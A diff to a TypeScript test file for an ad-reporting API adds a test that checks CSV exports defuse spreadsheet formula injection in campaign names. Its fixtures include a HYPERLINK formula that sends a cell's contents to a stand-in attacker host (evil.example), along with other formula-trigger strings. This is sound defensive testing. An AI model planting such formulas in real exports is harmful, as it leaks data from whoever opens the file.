@@ -1,6 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { AdSetClient, expectError } from './support/adsets-client.js';
 import { ok, type SandboxScenario, sandboxScenario } from './support/adsets-scenario.js';
+import { CampaignClient } from './support/campaigns-client.js';
 import { type Company, keysOf, newCustomer } from './support/connect-helpers.js';
 import { csvReportRows } from './support/csv.js';
 import { type Harness, startHarness } from './support/harness.js';
@@ -131,6 +132,35 @@ describe('reports: the API on the sandbox', () => {
     expect(csvReportRows(page.text)).toEqual(json.slice(0, 5));
     const second = await h.http.get(next).set('Authorization', company.auth).set('Accept', 'text/csv');
     expect(csvReportRows(second.text)).toEqual(json.slice(5, 10));
+  });
+
+  it('writes names a spreadsheet would run as formulas as text in CSV; numbers stay numbers', async () => {
+    const campaigns = new CampaignClient(h, company, s.client.customer);
+    const query = { platform: 'sandbox', level: 'campaign', granularity: 'total', dismissDatabase: true };
+    const ids: string[] = ok<Json>(await report(query)).data.map((r: Json) => r.id);
+    const names = [
+      '=HYPERLINK("https://evil.example/?leak="&J2,"Open report")',
+      '+1+cmd',
+      '-2+3',
+      '@SUM(A1)',
+    ];
+    expect(ids.length).toBeGreaterThanOrEqual(names.length);
+    for (const [i, name] of names.entries()) ok(await campaigns.put(ids[i]!, { name }));
+    const json = ok<Json>(await report(query)).data;
+    const csv = await report(query, 'text/csv');
+    expect(csv.status).toBe(200);
+    // OWASP's defence: a leading ' makes the cell text, and the field is quoted (inner quotes doubled).
+    expect(csv.text).toContain('"\'=HYPERLINK(""https://evil.example/?leak=""&J2,""Open report"")"');
+    for (const name of names.slice(1)) expect(csv.text).toContain(`"'${name}"`);
+    const rows = csvReportRows(csv.text);
+    for (const [i, name] of names.entries()) {
+      expect(json.find((r: Json) => r.id === ids[i]).name, 'JSON keeps the name as it is').toBe(name);
+      expect(rows.find((r) => r.id === ids[i])!.name).toBe(`'${name}`);
+    }
+    // The metrics adlink writes itself are never neutralized: the same numbers as JSON.
+    const metrics = ['spend', 'impressions', 'clicks', 'conversions', 'ctr', 'cpc', 'cpm'];
+    const pick = (r: Json) => [r.id, ...metrics.map((m) => r[m])];
+    expect(rows.map(pick)).toEqual(json.map(pick));
   });
 
   it('refuses bad input on every parameter, naming it', async () => {
